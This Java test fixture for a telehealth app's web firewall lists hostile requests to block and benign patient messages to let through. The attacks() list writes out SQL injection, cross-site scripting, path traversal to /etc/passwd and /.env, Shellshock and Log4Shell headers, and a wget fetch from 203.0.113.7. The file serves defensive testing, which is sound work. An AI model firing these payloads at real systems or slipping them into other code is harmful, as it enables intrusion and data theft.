package health.visavis.proof.address;

import java.util.List;
import java.util.Map;

/// What a firewall at the edge must stop, and what it must let through: requests as the pages send them, with words
/// that people write to a doctor and that look like something else to a rule.
final class Corpus {

    private static final String THREAD = "019b0000-0000-7000-8000-000000000001";
    private static final String CODE = "Q2hhbmdlIG9mIHRoZSBndWFyZA-0123456789_abcdefghijklmnopqrstuvwxyz-ABCDEFGH";
    private static final int LARGE = 4 << 20;

    private Corpus() {}

    static List<Attempt> attacks() {
        return List.of(
                Attempt.asked("SQL in a query", "1' OR '1'='1' -- "),
                Attempt.asked("a union of tables in a query", "1 UNION SELECT name, password_hash FROM account--"),
                Attempt.form("SQL in a form", "/appointments", "clinician", "x'; DROP TABLE appointment; --"),
                Attempt.sent(
                        "SQL in JSON",
                        "/api/appointments",
                        "application/json",
                        "{\"clinician\":\"x' UNION SELECT name, password_hash FROM account-- \"}"),
                Attempt.asked("a script in a query", "<script>alert(document.cookie)</script>"),
                Attempt.asked("a script in an attribute", "\"><img src=x onerror=alert(1)>"),
                Attempt.form("a script in a message", "/messages/" + THREAD, "text", "<script>alert(1)</script>"),
                Attempt.asked("a path out of the folder in a query", "../../../../../etc/passwd"),
                Attempt.get("a path out of the folder", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd"),
                Attempt.get("a file of secrets", "/.env"),
                Attempt.get("a program from elsewhere", "/?file=http%3A%2F%2F203.0.113.7%2Fshell.txt%3F"),
                Attempt.asked("a command in a query", "; cat /etc/passwd"),
                Attempt.asked("a command in a command", "$(wget http://203.0.113.7/x)"),
                Attempt.get("a command in a header", "/").with("User-Agent", "() { :;}; /bin/bash -c id"),
                Attempt.asked("PHP in a query", "<?php system('id'); ?>"),
                Attempt.get("a look-up in a header", "/").with("X-Api-Version", "${jndi:ldap://203.0.113.7/a}"),
                Attempt.get("an end of a word", "/?q=a%00.pdf"),
                Attempt.get("a header in a query", "/?q=a%0d%0aSet-Cookie:%20session=1"),
                new Attempt("a method that nobody uses", "PROPFIND", "/", Map.of(), new byte[0]));
    }

    /// Everything here is answered by the application, which sends a stranger to sign in or knows no such thing: what
    /// counts is that it was asked.
    static List<Attempt> clean() {
        return List.of(
                Attempt.get("the front page", "/"),
                Attempt.get("help", "/help"),
                Attempt.get("an explanation", "/problems/slot-taken"),
                Attempt.get("a list by day", "/appointments?from=2027-02-01&until=2027-02-08"),
                Attempt.get("a guest's link", "/join/" + CODE),
                Attempt.get(
                        "the way back from the sign-in",
                        "/login/oauth2/code/visavis?code=" + CODE + "&state=" + CODE + "%3D"),
                Attempt.form(
                        "a reason with dashes and signs",
                        "/appointments",
                        "reason",
                        "I can't sleep -- it's been > 2 weeks & < 5 hours a night; pain 7/10. Select a doctor from your list, or I'll drop by."),
                Attempt.form("a name with an apostrophe", "/patients", "name", "O'Brien-D'Angelo"),
                Attempt.form(
                        "a message with figures",
                        "/messages/" + THREAD,
                        "text",
                        "Take 1/2 tablet (25 mg) with food; if BP >= 140/90 or T = 38.5 °C call us: (555) 010-0100.\nSee https://www.cdc.gov/flu/index.htm?s=1#top\n\n- Ann"),
                Attempt.form(
                        "a message with words that are commands too",
                        "/messages/" + THREAD,
                        "text",
                        "Next: CT; echo in 2 weeks; cat scratch on the left hand; find time to rest | sort out the pills && exec. function is fine"),
                Attempt.form(
                        "a message in Spanish",
                        "/messages/" + THREAD,
                        "text",
                        "¿Me puede ayudar? Tomé la pastilla a las 8:00 y sigo con dolor; ¿y ahora qué? «Gracias» — José Núñez"),
                Attempt.sent(
                        "a wish in JSON",
                        "/api/appointments",
                        "application/json",
                        "{\"requestId\":\"%s\",\"patient\":\"%s\",\"clinician\":\"%s\",\"start\":\"2027-02-01T09:00:00Z\",\"reason\":\"It's my knee; I've union dues & select days off\"}"
                                .formatted(THREAD, THREAD, THREAD)),
                new Attempt(
                        "a file to a message",
                        "POST",
                        "/api/messages/" + THREAD + "/files",
                        Map.of(
                                "Content-Type",
                                "multipart/form-data; boundary=visavis-4711",
                                "Accept",
                                "application/json"),
                        ("--visavis-4711\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nMy X-ray\r\n"
                                        + "--visavis-4711\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x-ray of 3 may.png\"\r\n"
                                        + "Content-Type: image/png\r\n\r\n\u0089PNG\r\n\u001a\n\u0000\u0001\r\n--visavis-4711--\r\n")
                                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1)),
                new Attempt(
                        "a part of a recording",
                        "POST",
                        "/api/recordings/" + THREAD + "/parts?place=0&segment=0",
                        Map.of("Content-Type", "application/octet-stream", "Accept", "application/json"),
                        noise(1 << 20)),
                Attempt.sent("a bundle of FHIR, 4 MB", "/fhir", "application/fhir+json", bundle()));
    }

    /// Bytes without a meaning, the same each time.
    private static byte[] noise(int length) {
        var bytes = new byte[length];
        new java.util.Random(4711).nextBytes(bytes);
        return bytes;
    }

    private static String bundle() {
        var entry = """
                {"fullUrl":"urn:uuid:%s","resource":{"resourceType":"Observation","status":"final","code":{"coding":[{"system":"http://loinc.org","code":"8480-6","display":"Systolic blood pressure"}]},"effectiveDateTime":"2026-11-02T08:15:00-05:00","valueQuantity":{"value":128,"unit":"mm[Hg]","system":"http://unitsofmeasure.org","code":"mm[Hg]"},"note":[{"text":"Patient's arm was at rest; <em>no</em> symptoms."}]},"request":{"method":"POST","url":"Observation"}}""".formatted(THREAD);
        var entries = String.join(",", java.util.Collections.nCopies(LARGE / entry.length(), entry));
        return "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[" + entries + "]}";
    }
}
